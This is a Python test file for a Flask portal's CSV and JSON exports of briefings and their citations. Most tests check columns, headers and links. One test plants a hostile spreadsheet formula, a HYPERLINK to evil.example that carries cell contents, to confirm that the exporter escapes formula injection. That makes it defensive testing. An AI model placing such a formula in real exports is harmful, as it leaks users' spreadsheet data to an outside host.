"""Points, citations and states as CSV and JSON."""

from __future__ import annotations

import csv
import json
import re
from datetime import datetime
from io import StringIO
from pathlib import Path

from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from briefings.models import Briefing
from collection.store import Collection
from portal.handouts.exports import COLUMNS, FORMULA_STARTS, cell_text

from .conftest import CITES, TEXTS, learning_point, shown

Row = dict[str, str]


def rows(client: FlaskClient, path: str) -> list[Row]:
    answer = client.get(path)
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    return list(csv.DictReader(StringIO(answer.data.decode("utf-8-sig"), newline="")))


def test_the_csv_has_a_row_for_each_citation_and_each_point_without_one(
    client: FlaskClient, briefing: Briefing, short_ids: list[str]
) -> None:
    found = rows(client, f"/briefings/{briefing.id}.csv")
    assert tuple(found[0]) == COLUMNS
    assert [row["point_text"] for row in found] == list(TEXTS)
    assert [row["status"] for row in found] == [*(str(status) for _, status, _ in CITES), ""]
    assert found[0]["document"] == "a2curiosity0"
    assert found[0]["number"] == "1.4.39"
    assert found[0]["source"] == "Aldermoor procedures"
    assert found[0]["short_address"] == f"http://localhost/p/{short_ids[0]}"
    assert datetime.fromisoformat(found[0]["document_changed"])
    assert found[4]["cited_text"] == ""


def test_the_csv_of_all_briefings_holds_them_all(
    client: FlaskClient, stored: Collection, briefing: Briefing
) -> None:
    with stored.writing() as session:
        session.add(
            Briefing(
                id="c2briefing00", title="Another", origin="file:///b.txt", format="txt",
                media_type="text/plain", blob_hash="1" * 64, imported=briefing.imported,
                published_at=briefing.imported,
                points=[learning_point(1, "One point.")],
            )
        )  # fmt: skip
    found = rows(client, "/briefings.csv")
    assert [row["briefing"] for row in found] == ["c2briefing00", *[briefing.id] * len(TEXTS)]


def test_no_cell_is_a_formula(client: FlaskClient, stored: Collection, briefing: Briefing) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    with stored.writing() as session:
        point = session.get_one(Briefing, briefing.id).points[0]
        point.text, point.heading = hostile, "@SUM(A1)"
    row = rows(client, f"/briefings/{briefing.id}.csv")[0]
    assert row["point_text"] == f"'{hostile}"
    assert row["heading"] == "'@SUM(A1)"


@given(st.text() | st.text(alphabet=";=+-@'x"))
def test_any_words_come_back_from_a_cell_and_none_begins_a_formula(text: str) -> None:
    cell = cell_text(text)
    assert cell in (text, f"'{text}") or ";" in text
    assert cell.replace("'", "") == text.replace("'", "")
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)


@given(st.text(alphabet=";=+-@'x", max_size=12))
def test_nor_does_one_where_the_semicolon_parts_the_cells(text: str) -> None:
    assert not any(cell.startswith(tuple("=+-@")) for cell in cell_text(text).split(";"))


def test_the_json_is_that_of_the_api(client: FlaskClient, briefing: Briefing) -> None:
    kept = client.get(f"/briefings/{briefing.id}.json")
    assert "attachment" in kept.headers["Content-Disposition"]
    assert kept.get_json() == client.get(f"/api/v1/briefings/{briefing.id}").get_json()
    assert json.loads(client.get("/briefings.json").data) == {"briefings": [kept.get_json()]}


def test_an_unknown_briefing_has_no_files(client: FlaskClient, briefing: Briefing) -> None:
    for end in (".csv", ".json"):
        assert client.get(f"/briefings/nothing{end}").status_code == 404


def test_the_pages_lead_to_the_files(client: FlaskClient, briefing: Briefing) -> None:
    page = shown(client, f"/briefings/{briefing.id}")
    for end in (".csv", ".json"):
        assert page.find("a", href=f"/briefings/{briefing.id}{end}")
        assert shown(client, "/briefings").find("a", href=f"/briefings{end}")


def test_the_documentation_names_every_column_in_its_order() -> None:
    page = (Path(__file__).resolve().parents[3] / "docs" / "briefings.md").read_text("utf-8")
    told = page.partition("The columns are ")[2].partition(". `point` is")[0]
    assert tuple(re.findall(r"`(\w+)`", told)) == COLUMNS
